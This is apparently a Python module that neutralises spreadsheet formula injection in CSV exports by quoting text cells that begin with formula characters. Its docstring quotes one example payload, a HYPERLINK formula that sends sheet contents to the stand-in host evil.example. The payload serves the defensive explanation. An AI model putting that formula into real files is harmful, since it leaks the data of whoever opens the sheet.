"""CSV cells that a spreadsheet program cannot run as formulas (OWASP, "CSV Injection").

A text cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read
as a formula by Excel, LibreOffice and Google Sheets: a city named
``=HYPERLINK("http://evil.example/?leak="&A1,"Click")`` would become a link that sends the
sheet's contents away. Such cells get a single quote in front, which the spreadsheet shows
as text. Numbers (``int``, ``float``, ``Decimal``) are written as they are, so a negative
longitude stays a number.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from decimal import Decimal
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    if value is None or isinstance(value, (bool, int, float, Decimal)):
        return value
    text = str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


class SafeWriter:
    """``csv.writer`` whose every text cell is neutralised."""

    def __init__(self, buffer: Any, **kwargs: Any) -> None:
        self.writer = csv.writer(buffer, **kwargs)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self.writer.writerow([safe_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)
